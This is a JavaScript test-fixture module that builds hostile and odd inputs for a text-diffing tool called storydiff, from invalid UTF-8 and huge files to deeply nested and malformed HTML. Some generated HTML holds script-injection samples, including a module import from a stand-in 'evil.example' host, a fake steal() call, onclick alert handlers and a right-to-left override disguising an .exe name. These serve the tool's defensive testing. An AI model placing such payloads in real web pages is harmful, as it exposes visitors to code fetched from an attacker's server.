// The bad-input matrix, defined once for the three ways into the engine: the native CLI
// (tests/cli/bad-input.test.mjs), the npm package (tests/js/bad-input.test.mjs) and the web page
// (tests/web/bad-input.test.mjs).
//
// - The generators (PROSE, prose(), emptyInputs(), nulInputs(), ...) make the hostile and odd
//   inputs: seeded, so the same bytes every run; nothing large is committed.
// - matrix() pairs them into cases: two named documents, how to read them, and what must come of
//   it, read strictly (the CLI's and the package's default) and forgivingly (--replace-invalid /
//   replace_invalid_utf8, which the page uses): a valid result with extra checks, or an error
//   with its stable code and message.
// - checkResult() is the result contract every valid comparison keeps.
import assert from 'node:assert/strict';

// ---------------------------------------------------------------------------------------------
// The contract.

/**
 * What the engine's text is for plain text input: UTF-8 (UTF-16 converted, invalid sequences
 * replaced as the WHATWG decoder does), BOM dropped, CRLF and lone CR made LF.
 */
export function textAsRead(bytes) {
  let s;
  if (bytes[0] === 0xff && bytes[1] === 0xfe) s = new TextDecoder('utf-16le').decode(bytes.subarray(2));
  else if (bytes[0] === 0xfe && bytes[1] === 0xff) s = new TextDecoder('utf-16be').decode(bytes.subarray(2));
  else s = new TextDecoder('utf-8', { ignoreBOM: false }).decode(bytes);
  return Buffer.from(s.replace(/\r\n?/g, '\n'), 'utf8');
}

export const isBoundary = (buf, i) => i >= buf.length || (buf[i] & 0xc0) !== 0x80;

/**
 * A two-document comparison (JSON text as a string or bytes, or the parsed object) checked
 * against the texts as read (a Buffer per document, or null when the engine extracted the text,
 * as from HTML: then only the offsets' consistency can be checked): sentences ordered, non-empty,
 * on UTF-8 boundaries, their text the bytes [start, end); every sentence in exactly one alignment
 * entry; word diffs rebuild both spans; stats count the entries. Returns the parsed result.
 */
export function checkResult(body, texts) {
  const j = typeof body === 'string' ? JSON.parse(body) : body instanceof Uint8Array ? JSON.parse(Buffer.from(body).toString('utf8')) : body;
  assert.equal(j.version, 1);
  assert.equal(j.documents.length, 2);
  const seen = [];
  j.documents.forEach((d, k) => {
    const buf = texts[k];
    let prev = 0;
    for (const s of d.sentences) {
      assert.ok(s.start < s.end && s.start >= prev, `sentences ordered and non-empty: ${JSON.stringify(s).slice(0, 200)}`);
      prev = s.end;
      // The sentence text is whole characters: re-encoded, it has exactly the span's length.
      assert.equal(Buffer.byteLength(s.text, 'utf8'), s.end - s.start, 'sentence text length = end - start');
      if (buf) {
        assert.ok(s.end <= buf.length, 'inside the text');
        assert.ok(isBoundary(buf, s.start) && isBoundary(buf, s.end), `offsets on UTF-8 boundaries: ${s.start}, ${s.end}`);
        assert.ok(buf.subarray(s.start, s.end).equals(Buffer.from(s.text, 'utf8')), `text = bytes [start, end) at ${s.start}`);
      }
    }
    seen.push(new Uint8Array(d.sentences.length));
  });
  const stats = { equal: 0, modified: 0, added: 0, removed: 0 };
  for (const e of j.alignment) {
    stats[e.op]++;
    for (const i of e.a) seen[0][i]++;
    for (const i of e.b) seen[1][i]++;
    if (e.op !== 'modified') continue;
    // The word diff rebuilds both spans.
    const old = e.tokens.filter((t) => t.op !== 'insert').map((t) => t.text).join('');
    const neu = e.tokens.filter((t) => t.op !== 'delete').map((t) => t.text).join('');
    const span = (k, idx) => {
      const ss = j.documents[k].sentences;
      const first = ss[idx[0]], last = ss[idx[idx.length - 1]];
      if (texts[k]) return texts[k].subarray(first.start, last.end).toString('utf8');
      return idx.length === 1 ? first.text : null;
    };
    const a = span(0, e.a), b = span(1, e.b);
    if (a !== null) assert.equal(old, a, 'tokens rebuild the old span');
    if (b !== null) assert.equal(neu, b, 'tokens rebuild the new span');
  }
  for (const s of seen) assert.ok(s.every((n) => n === 1), 'every sentence in exactly one entry');
  for (const op of Object.keys(stats)) assert.equal(j.stats[op], stats[op], `stats.${op}`);
  assert.equal(j.stats.old_sentences, j.documents[0].sentences.length);
  assert.equal(j.stats.new_sentences, j.documents[1].sentences.length);
  return j;
}

/** For inputs that read as the same text: every sentence of both in an `equal`, unmoved entry. */
export function checkAllEqual(j) {
  assert.equal(j.stats.old_sentences, j.stats.new_sentences, 'as many sentences in both');
  assert.equal(j.stats.equal, j.stats.old_sentences, 'every claim equal');
  for (const e of j.alignment) {
    assert.equal(e.op, 'equal');
    assert.equal(e.moved, false);
    assert.equal(e.a.length, 1);
    assert.equal(e.b.length, 1);
  }
}

/**
 * The native CLI's message (after "storydiff: FILE: ") for each error code of the package: the
 * same problem in both. The CLI says "larger than the limit" for a file it refuses before reading.
 */
export const CLI_MESSAGE = {
  binary_input: /^storydiff: .+: looks binary \(NUL (byte|character) at offset \d+\)$/,
  invalid_utf8: /^storydiff: .+: invalid UTF-(8|16LE|16BE) at byte \d+( \(.+\))?$/,
  input_too_large: /^storydiff: .+: larger than the limit of \d+ bytes \(raise it with --max-size\)$/,
  unsupported_format: /^storydiff: .+: .*not supported/,
};

// ---------------------------------------------------------------------------------------------
// The generators.

export const PROSE = 'The council approved the budget on Monday, officials said.\nThe vote was 7 to 2.\n\nMayor Ana Ruiz called it “a fair plan.” Critics disagreed.\n';
export const PROSE2 = 'The council approved the budget on Tuesday, officials said.\nThe vote was 7 to 2.\n\nMayor Ana Ruiz called it “a fair plan.” Critics were not convinced.\n';

/** A seeded generator of news-like prose: the same bytes every run. */
export function prose(bytes, seed = 1, { minWords = 6, spread = 20 } = {}) {
  let x = seed >>> 0;
  const rnd = (n) => {
    x = (Math.imul(x, 1664525) + 1013904223) >>> 0;
    return x % n;
  };
  const words = ['council', 'budget', 'officials', 'said', 'the', 'a', 'of', 'vote', 'mayor', 'plan', 'river',
    'bridge', 'crews', 'repairs', 'residents', 'night', 'déjà', 'naïve', 'café', 'report', 'million', 'police',
    'school', 'storm', 'power', 'lines', 'across', 'north', 'district', 'week', 'fire', 'Zürich', 'São'];
  const names = ['Ruiz', 'Okafor', 'Nguyen', 'Müller', 'Haddad', 'Kowalski', 'Øster'];
  const parts = [];
  let size = 0;
  while (size < bytes) {
    let para = '';
    const n = 1 + rnd(4);
    for (let s = 0; s < n; s++) {
      const len = minWords + rnd(spread);
      const w = [];
      for (let k = 0; k < len; k++) w.push(words[rnd(words.length)]);
      w[0] = w[0][0].toUpperCase() + w[0].slice(1);
      if (rnd(3) === 0) w.push(`${rnd(1000)},${String(rnd(1000)).padStart(3, '0')}`);
      let sentence = w.join(' ');
      sentence += rnd(4) === 0 ? `, ${names[rnd(names.length)]} said.` : '.';
      if (rnd(6) === 0) sentence = `“${sentence}”`;
      para += (s ? ' ' : '') + sentence;
    }
    parts.push(para);
    size += Buffer.byteLength(para) + 2;
  }
  return parts.join('\n\n') + '\n';
}

/** Empty and whitespace-only documents (and one with four claims to set them against). */
export function emptyInputs() {
  return { empty: '', white: ' \t\n\n   \n\u00a0\u3000\u2028\n', text: PROSE };
}

/** Identical documents: the four-claim text, and 200 KB of prose. */
export function identicalInputs() {
  return { small: PROSE, big: prose(200_000, 7) };
}

/** NUL bytes: at offset 19 of a text, and a file of nothing else. */
export function nulInputs() {
  return {
    nul: Buffer.concat([Buffer.from('The vote was close.'), Buffer.from([0]), Buffer.from(' More text.\n')]),
    nulOffset: 19,
    onlyNul: Buffer.alloc(1000),
  };
}

/** Invalid UTF-8, by kind: the valid text before the bad bytes, the bad bytes, what follows. */
export const INVALID_UTF8 = {
  'overlong-2': [Buffer.from('Prices rose '), Buffer.from([0xc0, 0xaf]), Buffer.from(' sharply.\n')],
  'overlong-3': [Buffer.from('Prices rose '), Buffer.from([0xe0, 0x80, 0xaf]), Buffer.from(' sharply.\n')],
  'overlong-4': [Buffer.from('Prices rose '), Buffer.from([0xf0, 0x80, 0x80, 0xaf]), Buffer.from(' sharply.\n')],
  surrogate: [Buffer.from('Prices rose '), Buffer.from([0xed, 0xa0, 0x80]), Buffer.from(' sharply.\n')],
  'surrogate-pair': [Buffer.from('Prices rose '), Buffer.from([0xed, 0xa0, 0xbd, 0xed, 0xb8, 0x80]), Buffer.from(' sharply.\n')],
  'above-10ffff': [Buffer.from('Prices rose '), Buffer.from([0xf4, 0x90, 0x80, 0x80]), Buffer.from(' sharply.\n')],
  'truncated-mid': [Buffer.from('Prices rose '), Buffer.from([0xe2, 0x82]), Buffer.from(' sharply.\n')],
  'truncated-end': [Buffer.from('Prices rose sharply. '), Buffer.from([0xf0, 0x9f, 0x98])],
  'lone-continuation': [Buffer.from('Prices rose '), Buffer.from([0x80, 0xbf]), Buffer.from(' sharply.\n')],
  'bytes-f5-ff': [Buffer.from('Prices rose '), Buffer.from([0xf5, 0xf8, 0xfc, 0xfe, 0xff]), Buffer.from(' sharply.\n')],
  latin1: [Buffer.from('Caf'), Buffer.from([0xe9]), Buffer.from(' prices rose. Na'), Buffer.from([0xef]), Buffer.from('ve.\n')],
};

/** Each INVALID_UTF8 kind as { kind, bytes, bad }: `bad` is the offset of the first bad byte. */
export function invalidUtf8Inputs() {
  return Object.entries(INVALID_UTF8).map(([kind, parts]) => ({ kind, bytes: Buffer.concat(parts), bad: parts[0].length }));
}

/** UTF-16 with a BOM (LE, BE), broken UTF-16, UTF-32, and UTF-8 with a BOM. */
export function utf16Inputs() {
  const text = 'Floodwaters rose overnight in the valley. “We lost everything,” said Ana Ruiz.\r\nCrews from 日本 and München helped 🚒.\n';
  const beBytes = Buffer.from(text, 'utf16le');
  beBytes.swap16();
  return {
    text,
    utf8: Buffer.from(text),
    le: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]),
    be: Buffer.concat([Buffer.from([0xfe, 0xff]), beBytes]),
    // An unpaired surrogate at byte 6; an odd byte count.
    lone: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('Ab', 'utf16le'), Buffer.from([0x00, 0xd8]), Buffer.from('cd.', 'utf16le')]),
    odd: Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from([0x00, 0x41, 0x00])]),
    utf32: Buffer.from([0xff, 0xfe, 0, 0, 0x41, 0, 0, 0]),
    bom: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(PROSE)]),
    nobom: Buffer.from(PROSE),
  };
}

/** PROSE with CRLF, lone CR, and both mixed with LF. */
export function lineEndInputs() {
  return {
    lf: PROSE,
    crlf: PROSE.replace(/\n/g, '\r\n'),
    cr: PROSE.replace(/\n/g, '\r'),
    mixed: PROSE.replace(/\n/, '\r\n').replace(/\n\n/, '\r\r'),
  };
}

let bigMemo = null;
/**
 * A 50 MB file and an edited copy (strings, remembered: they take a few seconds to make). 2 MB
 * of distinct prose with long sentences (fewer, larger JSON objects to check), made 50 MB by
 * copies whose paragraphs each open with a different sentence.
 */
export function bigInputs() {
  if (!bigMemo) {
    const chunk = prose(2 * 1024 * 1024, 42, { minWords: 30, spread: 40 });
    const copies = [];
    for (let k = 0; copies.length * chunk.length < 50 * 1024 * 1024; k++) {
      copies.push(chunk.replace(/\n\n/g, () => `\n\nBulletin ${k} follows. `));
    }
    const big = copies.join('\n\n');
    const edited = big.replace(/council/g, (m, at) => (at % 97 === 0 ? 'assembly' : m));
    bigMemo = { big, edited };
  }
  return bigMemo;
}

/** Size of the file over the default limit (64 MiB): 65 MiB. */
export const HUGE_BYTES = 65 * 1024 * 1024;

/** One 10 MB line with no sentence end, and the same with three words inserted in the middle. */
export function longLineInputs() {
  const words = prose(10 * 1024 * 1024, 3).replace(/[.\n“”]/g, ' ');
  const changed = words.slice(0, 5_000_000) + ' inserted words here ' + words.slice(5_000_000);
  return { words, changed };
}

/**
 * 100,000 one-word sentences: `a` on one line, `b` without every thousandth; `lines` one per
 * line, `paragraphs` one per paragraph.
 */
export function oneWordInputs() {
  const syll = ['ka', 'lo', 'mi', 'ra', 'te', 'vu', 'zo', 'ne', 'shi', 'dar'];
  const word = (n) => {
    let i = n + 100_000; // six syllables: never mistaken for initials or an abbreviation
    let w = '';
    do {
      w += syll[i % 10];
      i = Math.floor(i / 10);
    } while (i > 0);
    return w[0].toUpperCase() + w.slice(1);
  };
  const one = Array.from({ length: 100_000 }, (_, i) => `${word(i)}.`);
  return {
    a: one.join(' ') + '\n',
    b: one.filter((_, i) => i % 1000 !== 0).join(' ') + '\n',
    lines: one.join('\n'),
    paragraphs: one.join('\n\n'),
  };
}

/** Chinese, Japanese and Thai without spaces; a 300,000-ideograph run without any break. */
export function cjkInputs() {
  const ja = '東京で地震がありました。けが人はいません。電車は止まっています';
  return {
    zh: '今天上午市议会通过了预算。投票结果为七比二！市长表示这是一个公平的计划？批评者不同意。',
    zh2: '今天下午市议会通过了预算。投票结果为七比二！市长表示这是一个公平的计划？批评者不同意。',
    ja,
    ja2: ja.replace('東京', '大阪'),
    th: 'สภาเมืองอนุมัติงบประมาณเมื่อวันจันทร์ ผลการลงคะแนนคือเจ็ดต่อสอง นายกเทศมนตรีกล่าวว่าเป็นแผนที่ยุติธรรม',
    th2: 'สภาเมืองอนุมัติงบประมาณเมื่อวันอังคาร ผลการลงคะแนนคือเจ็ดต่อสอง นายกเทศมนตรีกล่าวว่าเป็นแผนที่ยุติธรรม',
    zhLong: '中'.repeat(300_000),
    zhLong2: '中'.repeat(150_000) + '国' + '中'.repeat(150_000),
  };
}

/** Arabic and Hebrew, and English with bidi overrides, isolates and marks. */
export function rtlInputs() {
  const he = 'המועצה אישרה את התקציב ביום שני. התוצאה הייתה שבעה מול שניים. ראש העיר אמר שזו תוכנית הוגנת.';
  // Overrides and isolates that reorder what a reader sees stay bytes of the text.
  const bidi = 'The file is \u202Egnp.exe\u202C here. Name: \u2067\u05e9\u05dc\u05d5\u05dd\u2069 said hi. \u200fRLM\u200e marks.';
  return {
    ar: 'وافق المجلس على الميزانية يوم الاثنين. كانت النتيجة سبعة مقابل اثنين؟ قال العمدة إنها خطة عادلة.',
    ar2: 'وافق المجلس على الميزانية يوم الثلاثاء. كانت النتيجة سبعة مقابل اثنين؟ قال العمدة إنها خطة عادلة.',
    he,
    he2: he.replace('שני', 'שלישי'),
    bidi,
    bidi2: bidi.replace('hi', 'bye'),
  };
}

/** ZWJ sequences, flags, combining accents; a letter with 10,000 combining marks and 20,000 emoji. */
export function emojiInputs() {
  const a = 'Firefighters 👩‍🚒👨🏽‍🚒 arrived. Flags 🇺🇦🇵🇱 flew. The café (cafe\u0301) reopened. Z\u0351\u0352\u0353\u0354algo text. Family 👨‍👩‍👧‍👦 safe.';
  const zalgo = 'Storm e' + '\u0301\u0302\u0303\u0304'.repeat(2500) + ' hit. ' + '😀'.repeat(20_000) + '. End.';
  return { a, b: a.replace('arrived', 'left').replace('reopened', 'reopened today'), zalgo, zalgo2: zalgo.replace('hit', 'missed') };
}

/** HTML pages nested 100,000 levels deep (and one never closed), each with the vote 7 to 2. */
export function deepHtmlInputs() {
  const N = 100_000;
  const deep = (open, close, inner) => `<html><body>${open.repeat(N)}${inner}${close.repeat(N)}</body></html>`;
  return {
    div: deep('<div>', '</div>', '<p>The council approved the budget. The vote was 7 to 2.</p>'),
    inline: deep('<b><i>', '</i></b>', 'The council approved the budget. The vote was 7 to 2.'),
    article: deep('<article><p>Level text here.</p>', '</article>', '<p>The council approved the budget.</p>'),
    list: deep('<ul><li>', '</li></ul>', 'The council approved the budget.'),
    unclosed: `<html><body>${'<div><span><p>The vote was 7 to 2. '.repeat(N)}`,
    script: deep('<div><script>', '</script></div>', 'alert(1)'),
  };
}
/** The kinds of deepHtmlInputs(), in order. */
export const DEEP_HTML_KINDS = ['div', 'inline', 'article', 'list', 'unclosed', 'script'];
/** What a deep page's edited copy changes. */
export const deepEdit = (html) => html.replace('7 to 2', '6 to 3');

/** Unclosed and malformed HTML; none of Injected, Hidden, document.write, color: red may be read. */
export const MALFORMED_HTML = [
  '<p>The council approved the budget <b>on Monday <i>officials said.',
  '<html><head><title>Budget',
  '<p>Before the script.</p><script>document.write("<p>Injected.</p>")',
  '<p>Before the comment.</p><!-- never closed <p>Hidden.</p>',
  '<p>Attribute <a href="never closed>Text.</p> more',
  '<p>Text ends with a stray <',
  '<p>Entities &amp &lt;b&gt; &#xFFFFFF; &#0; &#55296; &#x110000; &bogus; &',
  '<![CDATA[ never closed <p>x</p>',
  '<style>p { color: red }',
  '<p>' + '<'.repeat(50_000) + ' lots of angle brackets.</p>',
  '</p></div></body></html> closing tags only.',
];
export const PLAIN_HTML = '<p>The council approved the budget on Monday, officials said.</p>';
export const MALFORMED_LEAK = /Injected|Hidden|document\.write|color: red/;

/** An article of 10,000 paragraphs, each after a script (and now and then a module, noscript, style). */
export function scriptsHtmlInputs() {
  const parts = [];
  for (let k = 0; k < 10_000; k++) {
    parts.push(`<script>var x${k} = "</p><p>alert(${k})"; if (a < b && c > d) { steal(); }</script>`);
    parts.push(`<p onclick="alert(${k})">Paragraph ${k} of the story is here.</p>`);
    if (k % 100 === 0) parts.push(`<SCRIPT type="module">import("//evil.example/${k}.js")</SCRIPT><noscript>Enable JS</noscript><style>*{}</style>`);
  }
  const html = `<html><body><article>${parts.join('\n')}</article></body></html>`;
  return { html, html2: html.replace('Paragraph 5 ', 'Paragraph five ') };
}
export const SCRIPT_LEAK = /alert|steal|evil|import|Enable JS|\{/;

// ---------------------------------------------------------------------------------------------
// The matrix.

/**
 * Every case of the matrix, in order:
 *   { id, group, inputs() → [{ name, bytes }, { name, bytes }], format?, maxBytes?, heavy?,
 *     strict, forgiving?, page? }
 * - inputs(): the two documents (bytes are Buffers; names end in .txt or .html), made on demand.
 * - format: the read format for both (the CLI's --input-format); maxBytes: the per-document
 *   limit (the CLI's --max-size); both default to the engine's.
 * - strict: what must come of it read as the CLI and the package do by default; forgiving: with
 *   invalid UTF-8 repaired (--replace-invalid, replace_invalid_utf8: what the page does), when
 *   that differs. Each is { error: code, message: RegExp } or { texts: 'read' | 'extracted',
 *   same?: true, check?(result) }: 'read' checks offsets against textAsRead() of the bytes,
 *   'extracted' (HTML, Markdown, article) only their consistency; `same` asserts every claim
 *   equal; check() the case's own assertions.
 * - heavy: megabytes of input; test files may do less with it (fewer calls, no export).
 * - page: false when the page cannot express the case (it has no size limit setting).
 */
export function matrix() {
  const cases = [];
  const txt = (name, content) => ({ name, bytes: Buffer.isBuffer(content) ? content : Buffer.from(content, 'utf8') });
  const add = (c) => cases.push(c);
  const ok = (extra = {}) => ({ texts: 'read', ...extra });

  // Empty and whitespace only.
  {
    const group = 'empty and whitespace-only';
    const { empty, white, text } = emptyInputs();
    const noClaims = (k) => (j) => assert.equal(j.documents[k].sentences.length, 0);
    add({ id: 'empty-vs-empty', group, inputs: () => [txt('empty.txt', empty), txt('empty.txt', empty)], strict: ok({ same: true, check: noClaims(0) }) });
    add({ id: 'white-vs-empty', group, inputs: () => [txt('white.txt', white), txt('empty.txt', empty)], strict: ok({ same: true, check: noClaims(0) }) });
    add({ id: 'empty-vs-text', group, inputs: () => [txt('empty.txt', empty), txt('text.txt', text)], strict: ok({ check: (j) => assert.equal(j.stats.added, 4) }) });
    add({ id: 'text-vs-white', group, inputs: () => [txt('text.txt', text), txt('white.txt', white)], strict: ok({ check: (j) => assert.equal(j.stats.removed, 4) }) });
    for (const format of ['html', 'markdown', 'article']) {
      add({ id: `empty-vs-white-as-${format}`, group, format, inputs: () => [txt('empty.txt', empty), txt('white.txt', white)],
        strict: { texts: 'extracted', same: true, check: noClaims(1) } });
    }
  }

  // Identical files.
  {
    const group = 'identical files';
    const { small, big } = identicalInputs();
    add({ id: 'identical-small', group, inputs: () => [txt('same-a.txt', small), txt('same-b.txt', small)], strict: ok({ same: true, check: (j) => assert.equal(j.stats.equal, 4) }) });
    add({ id: 'identical-200k', group, inputs: () => [txt('same-big-a.txt', big), txt('same-big-b.txt', big)], strict: ok({ same: true }) });
  }

  // NUL bytes: binary, whether or not invalid UTF-8 is repaired.
  {
    const group = 'NUL bytes';
    const { nul, nulOffset, onlyNul } = nulInputs();
    const binary = (name, at) => ({ error: 'binary_input', message: new RegExp(`^${name.replace('.', '\\.')}: looks binary \\(NUL byte at offset ${at}\\)$`) });
    add({ id: 'nul-old', group, inputs: () => [txt('nul.txt', nul), txt('ok.txt', PROSE)], strict: binary('nul.txt', nulOffset), forgiving: binary('nul.txt', nulOffset) });
    add({ id: 'nul-new', group, inputs: () => [txt('ok.txt', PROSE), txt('nul.txt', nul)], strict: binary('nul.txt', nulOffset), forgiving: binary('nul.txt', nulOffset) });
    add({ id: 'only-nul', group, inputs: () => [txt('only-nul.txt', onlyNul), txt('ok.txt', PROSE)], strict: binary('only-nul.txt', 0), forgiving: binary('only-nul.txt', 0) });
  }

  // Invalid UTF-8: an error naming the byte; repaired, U+FFFD and a warning.
  {
    const group = 'invalid UTF-8';
    for (const { kind, bytes, bad } of invalidUtf8Inputs()) {
      const name = `${kind}.txt`;
      add({
        id: `utf8-${kind}`, group, inputs: () => [txt(name, bytes), txt('ok.txt', PROSE)],
        strict: { error: 'invalid_utf8', message: new RegExp(`^${kind}\\.txt: invalid UTF-8 at byte ${bad}$`) },
        forgiving: ok({
          check: (j) => {
            assert.ok(j.warnings.some((w) => w.includes(name) && /U\+FFFD/.test(w)), `a warning for ${kind}`);
            assert.ok(j.documents[0].sentences.some((s) => s.text.includes('\ufffd')), `U+FFFD in ${kind}`);
          },
        }),
      });
    }
  }

  // UTF-16 with a BOM, broken UTF-16, UTF-32, a UTF-8 BOM.
  {
    const group = 'UTF-16 with BOM';
    const u = utf16Inputs();
    for (const [id, bytes, label] of [['le', u.le, 'UTF-16LE'], ['be', u.be, 'UTF-16BE']]) {
      add({
        id: `utf16-${id}`, group, inputs: () => [txt(`${id}.txt`, bytes), txt('u8.txt', u.utf8)],
        strict: ok({
          same: true,
          check: (j) => {
            assert.ok(j.stats.old_sentences >= 3);
            assert.ok(j.warnings.some((w) => w.includes(`${label} to UTF-8`)), `a warning: ${j.warnings}`);
          },
        }),
      });
    }
    add({
      id: 'utf16-unpaired-surrogate', group, inputs: () => [txt('lone.txt', u.lone), txt('u8.txt', u.utf8)],
      strict: { error: 'invalid_utf8', message: /^lone\.txt: invalid UTF-16LE at byte 6 \(unpaired surrogate\)$/ },
      forgiving: ok({ check: (j) => assert.ok(j.documents[0].sentences.some((s) => s.text.includes('\ufffd'))) }),
    });
    add({
      id: 'utf16-odd-length', group, inputs: () => [txt('odd.txt', u.odd), txt('u8.txt', u.utf8)],
      strict: { error: 'invalid_utf8', message: /^odd\.txt: invalid UTF-16BE at byte 4 \(odd number of bytes\)$/ },
      forgiving: ok({ check: (j) => assert.ok(j.documents[0].sentences.some((s) => s.text.includes('\ufffd'))) }),
    });
    const utf32 = { error: 'unsupported_format', message: /^u32\.txt: UTF-32 text is not supported/ };
    add({ id: 'utf32', group, inputs: () => [txt('u32.txt', u.utf32), txt('u8.txt', u.utf8)], strict: utf32, forgiving: utf32 });
    add({
      id: 'utf8-bom', group, inputs: () => [txt('bom.txt', u.bom), txt('nobom.txt', u.nobom)],
      strict: ok({ same: true, check: (j) => { assert.equal(j.documents[0].sentences[0].start, 0); assert.equal(j.stats.equal, 4); } }),
    });
  }

  // CRLF and lone CR.
  {
    const group = 'CRLF and lone CR';
    const l = lineEndInputs();
    for (const id of ['crlf', 'cr', 'mixed']) {
      add({ id: `line-ends-${id}`, group, inputs: () => [txt(`${id}.txt`, l[id]), txt('lf.txt', l.lf)], strict: ok({ same: true, check: (j) => assert.equal(j.stats.equal, 4) }) });
    }
  }

  // A 50 MB file; the limits around it.
  {
    const group = 'a 50 MB file';
    add({
      id: '50mb', group, heavy: true, inputs: () => [txt('big-a.txt', bigInputs().big), txt('big-b.txt', bigInputs().edited)],
      strict: ok({ check: (j) => { assert.ok(j.stats.old_sentences > 100_000); assert.ok(j.stats.modified > 0); } }),
    });
    add({
      id: '50mb-over-10M-limit', group, heavy: true, page: false, maxBytes: 10 * 1024 * 1024,
      inputs: () => [txt('big-a.txt', bigInputs().big), txt('big-b.txt', bigInputs().edited)],
      strict: { error: 'input_too_large', message: /^big-a\.txt: input is \d+ bytes, more than the limit of 10485760 bytes$/ },
    });
    const huge = { error: 'input_too_large', message: /^huge\.txt: input is 68157440 bytes, more than the limit of 67108864 bytes$/ };
    add({ id: 'over-default-limit', group, heavy: true, inputs: () => [txt('huge.txt', Buffer.alloc(HUGE_BYTES)), txt('ok.txt', PROSE)], strict: huge, forgiving: huge });
  }

  // One 10 MB line with no sentence end.
  add({
    id: '10mb-line', group: 'one 10 MB line', heavy: true,
    inputs: () => { const l = longLineInputs(); return [txt('line-a.txt', l.words), txt('line-b.txt', l.changed)]; },
    strict: ok({ check: (j) => { assert.equal(j.stats.old_sentences, 1); assert.equal(j.stats.modified, 1); } }),
  });

  // 100,000 one-word sentences.
  {
    const group = '100,000 one-word sentences';
    add({
      id: 'one-word-sentences', group, heavy: true,
      inputs: () => { const w = oneWordInputs(); return [txt('words-a.txt', w.a), txt('words-b.txt', w.b)]; },
      strict: ok({ check: (j) => { assert.equal(j.stats.old_sentences, 100_000); assert.equal(j.stats.removed, 100); } }),
    });
    add({
      id: 'one-word-lines-vs-paragraphs', group, heavy: true,
      inputs: () => { const w = oneWordInputs(); return [txt('lines-a.txt', w.lines), txt('lines-b.txt', w.paragraphs)]; },
      strict: ok({ same: true, check: (j) => assert.equal(j.stats.equal, 100_000) }),
    });
  }

  // CJK and Thai without spaces.
  {
    const group = 'CJK and Thai';
    const c = cjkInputs();
    add({ id: 'zh', group, inputs: () => [txt('zh-a.txt', c.zh), txt('zh-b.txt', c.zh2)], strict: ok({ check: (j) => { assert.equal(j.stats.old_sentences, 4); assert.equal(j.stats.modified, 1); } }) });
    add({ id: 'ja', group, inputs: () => [txt('ja-a.txt', c.ja), txt('ja-b.txt', c.ja2)], strict: ok() });
    add({ id: 'th', group, inputs: () => [txt('th-a.txt', c.th), txt('th-b.txt', c.th2)], strict: ok() });
    add({ id: 'zh-300k-ideographs', group, inputs: () => [txt('zh-long-a.txt', c.zhLong), txt('zh-long-b.txt', c.zhLong2)], strict: ok() });
  }

  // Right-to-left text.
  {
    const group = 'right-to-left text';
    const r = rtlInputs();
    add({ id: 'ar', group, inputs: () => [txt('ar-a.txt', r.ar), txt('ar-b.txt', r.ar2)], strict: ok({ check: (j) => assert.equal(j.stats.old_sentences, 3) }) });
    add({ id: 'he', group, inputs: () => [txt('he-a.txt', r.he), txt('he-b.txt', r.he2)], strict: ok() });
    add({ id: 'bidi-controls', group, inputs: () => [txt('bidi-a.txt', r.bidi), txt('bidi-b.txt', r.bidi2)], strict: ok() });
  }

  // Emoji and combining marks.
  {
    const group = 'emoji and combining marks';
    const e = emojiInputs();
    add({ id: 'emoji', group, inputs: () => [txt('emoji-a.txt', e.a), txt('emoji-b.txt', e.b)], strict: ok({ check: (j) => assert.ok(j.stats.modified >= 2) }) });
    add({ id: 'zalgo-and-20k-emoji', group, inputs: () => [txt('zalgo-a.txt', e.zalgo), txt('zalgo-b.txt', e.zalgo2)], strict: ok() });
  }

  // HTML: nested 100,000 deep, unclosed and malformed, full of scripts.
  {
    const group = 'HTML nested 100,000 deep';
    for (const kind of DEEP_HTML_KINDS) {
      add({
        id: `html-deep-${kind}`, group, heavy: true,
        inputs: () => { const html = deepHtmlInputs()[kind]; return [txt(`deep-${kind}.html`, html), txt(`deep-${kind}-b.html`, deepEdit(html))]; },
        strict: {
          texts: 'extracted',
          check: (j) => { for (const s of j.documents[0].sentences) assert.doesNotMatch(s.text, /[<>]|alert/, `${kind}: no markup in the text`); },
        },
      });
    }
  }
  {
    const group = 'unclosed and malformed HTML';
    MALFORMED_HTML.forEach((html, k) => {
      add({
        id: `html-malformed-${k}`, group, inputs: () => [txt(`bad-${k}.html`, html), txt('plain.html', PLAIN_HTML)],
        strict: { texts: 'extracted', check: (j) => { for (const s of j.documents[0].sentences) assert.doesNotMatch(s.text, MALFORMED_LEAK); } },
      });
    });
  }
  add({
    id: 'html-scripts', group: 'HTML full of scripts', heavy: true,
    inputs: () => { const s = scriptsHtmlInputs(); return [txt('scripts-a.html', s.html), txt('scripts-b.html', s.html2)]; },
    strict: {
      texts: 'extracted',
      check: (j) => {
        assert.ok(j.stats.old_sentences >= 10_000);
        for (const s of j.documents[0].sentences) assert.doesNotMatch(s.text, SCRIPT_LEAK);
      },
    },
  });

  const ids = new Set();
  for (const c of cases) {
    assert.ok(!ids.has(c.id), `duplicate case id ${c.id}`);
    ids.add(c.id);
  }
  return cases;
}

/** What must come of `c` read strictly (forgiving = false) or with invalid UTF-8 repaired. */
export const expectation = (c, forgiving) => (forgiving ? c.forgiving ?? c.strict : c.strict);

/**
 * Checks a valid result of case `c` against its expectation `want` ({ texts, same, check }); the
 * documents are the case's inputs (for the texts as read). Returns the parsed result.
 */
export function checkCase(body, docs, want) {
  const texts = docs.map((d) => (want.texts === 'read' ? textAsRead(d.bytes) : null));
  const j = checkResult(body, texts);
  if (want.same) checkAllEqual(j);
  if (want.check) want.check(j);
  return j;
}
